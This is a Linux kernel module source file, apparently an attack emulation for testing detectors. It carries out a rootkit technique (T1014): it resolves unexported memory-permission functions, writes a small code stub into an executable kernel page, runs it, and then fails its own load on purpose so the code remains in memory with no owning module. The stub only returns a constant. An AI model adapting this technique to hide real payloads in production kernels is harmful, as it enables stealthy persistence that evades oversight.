// SPDX-License-Identifier: GPL-2.0-only
/* Leaves executable code behind in memory that no module owns, and goes: its own load ends in an error on purpose (T1014). */
#include "attack.h"

static char *area = "vmalloc";
module_param(area, charp, 0444);
MODULE_PARM_DESC(
	area,
	"where the code lies: vmalloc, module (the modules' own range) or direct (the direct map)");
static bool writable;
module_param(writable, bool, 0444);
MODULE_PARM_DESC(writable, "leave the page writable as well");

static const u8 code[] = {
	0xf3, 0x0f, 0x1e, 0xfa,	      /* endbr64 */
	0xb8, 0x53, 0x4d, 0x41, 0x00, /* mov $0x414d53, %eax */
	0xc3,			      /* ret */
};

static void *page_alloc(void)
{
	void *(*alloc_module)(unsigned long size);
	void *(*alloc_execmem)(int type, size_t size);

	if (strcmp(area, "direct") == 0)
		return (void *)get_zeroed_page(GFP_KERNEL);
	if (strcmp(area, "vmalloc") == 0)
		return vmalloc(PAGE_SIZE);
	alloc_module = (void *)attack_lookup()("module_alloc");
	if (alloc_module)
		return alloc_module(PAGE_SIZE);
	/* From 6.10. Kind 0 is the code of modules. */
	alloc_execmem = (void *)attack_symbol("execmem_alloc");
	return alloc_execmem ? alloc_execmem(0, PAGE_SIZE) : NULL;
}

static int __init attack_init(void)
{
	int (*set_x)(unsigned long at, int pages), (*set_ro)(unsigned long at, int pages),
		(*set_rw)(unsigned long at, int pages);
	int (*run)(void);
	void *page;

	if (!attack_lookup())
		return -ENOENT;
	set_x = (void *)attack_symbol("set_memory_x");
	set_ro = (void *)attack_symbol("set_memory_ro");
	set_rw = (void *)attack_symbol("set_memory_rw");
	if (!set_x || !set_ro || !set_rw)
		return -ENOENT;
	page = page_alloc();
	if (!page)
		return -ENOMEM;
	if (attack_write(page, code, sizeof(code)) < 0)
		return -EFAULT;
	if (writable)
		set_rw((unsigned long)page, 1);
	else
		set_ro((unsigned long)page, 1);
	set_x((unsigned long)page, 1);
	run = page;
	attack_log("area=%s page=0x%lx size=0x%lx writable=%d result=0x%x", area,
		   (unsigned long)page, PAGE_SIZE, writable, run());
	return -ECANCELED;
}

module_init(attack_init);
